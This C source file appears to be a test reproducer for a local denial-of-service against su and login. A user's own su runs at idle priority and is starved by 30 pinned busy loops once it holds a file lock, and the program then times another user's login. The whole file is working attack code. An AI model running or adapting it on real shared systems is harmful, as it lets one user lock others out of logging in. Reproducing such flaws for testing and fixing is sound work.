/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A user starves his own su while it makes a namespace that others want too.
 *
 * attack USER COMMAND...
 *
 * USER runs "su -c true USER" under SCHED_IDLE, pinned to one processor. As
 * soon as somebody has taken a lock (/proc/locks), 30 busy loops of his begin
 * on that processor. Then COMMAND, the victim's login, runs: its output and
 * its status are ours. All that USER has started is killed at the end. Status
 * 77: his su was done before it was seen to take a lock; COMMAND did not run.
 */
#include "stopwatch.h"

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/wait.h>

enum { LOOPS = 30, TOO_EARLY = 77 };

static pid_t loops[LOOPS];
static pid_t su;

static void become(const char *user)
{
	const struct passwd *passwd = getpwnam(user);

	if (!passwd || initgroups(user, passwd->pw_gid) < 0 ||
	    setgid(passwd->pw_gid) < 0 || setuid(passwd->pw_uid) < 0)
		die(user);
}

/* The last one that there is: the first has the machine's own work. */
static void pin(void)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET((size_t)sysconf(_SC_NPROCESSORS_ONLN) - 1, &set);
	if (sched_setaffinity(0, sizeof(set), &set) < 0)
		die("sched_setaffinity");
}

static pid_t start_process(void)
{
	pid_t child = fork();

	if (child < 0)
		die("fork");
	return child;
}

static void loops_prepare(void)
{
	for (size_t i = 0; i < LOOPS; i++) {
		loops[i] = start_process();
		if (loops[i] == 0) {
			pin();
			(void)raise(SIGSTOP);
			for (;;)
				;
		}
		if (waitpid(loops[i], NULL, WUNTRACED) != loops[i])
			die("loop");
	}
}

static void loops_signal(int signal)
{
	for (size_t i = 0; i < LOOPS; i++)
		(void)kill(loops[i], signal);
}

static void su_start(const char *user)
{
	const struct sched_param param = { 0 };

	su = start_process();
	if (su)
		return;
	pin();
	if (sched_setscheduler(0, SCHED_IDLE, &param) < 0)
		die("sched_setscheduler");
	(void)execlp("su", "su", "-c", "true", user, NULL);
	die("su");
}

static bool somebody_holds_lock(void)
{
	static char text[1 << 16];
	FILE *locks = fopen("/proc/locks", "re");
	size_t length;

	if (!locks)
		die("/proc/locks");
	length = fread(text, 1, sizeof(text) - 1, locks);
	(void)fclose(locks);
	text[length] = '\0';
	return strstr(text, "FLOCK") != NULL;
}

/*
 * The attacker: one byte to "ready" once his loops run. All of it is one
 * session, as of one terminal: autogroup shares by session.
 */
_Noreturn static void attack(const char *user, int ready)
{
	if (setsid() < 0)
		die("setsid");
	become(user);
	loops_prepare();
	su_start(user);
	while (!somebody_holds_lock())
		if (waitpid(su, NULL, WNOHANG) == su) {
			/* They have the pipe, too. */
			loops_signal(SIGKILL);
			_exit(TOO_EARLY);
		}
	loops_signal(SIGCONT);
	(void)!write(ready, "", 1);
	for (;;)
		(void)pause();
}

static int login(char **command)
{
	pid_t child = start_process();
	int status;

	if (child == 0) {
		(void)execvp(command[0], command);
		die(command[0]);
	}
	if (waitpid(child, &status, 0) != child)
		die("waitpid");
	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

int main(int argc, char **argv)
{
	int ready[2];
	pid_t attacker;
	int status = TOO_EARLY;
	char c;

	if (argc < 3) {
		(void)fprintf(stderr, "usage: attack USER COMMAND...\n");
		return 2;
	}
	if (pipe2(ready, O_CLOEXEC) < 0)
		die("pipe2");
	attacker = start_process();
	if (attacker == 0) {
		(void)close(ready[0]);
		attack(argv[1], ready[1]);
	}
	(void)close(ready[1]);
	if (read(ready[0], &c, 1) == 1)
		status = login(argv + 2);
	(void)kill(-attacker, SIGKILL);
	(void)waitpid(attacker, NULL, 0);
	return status;
}
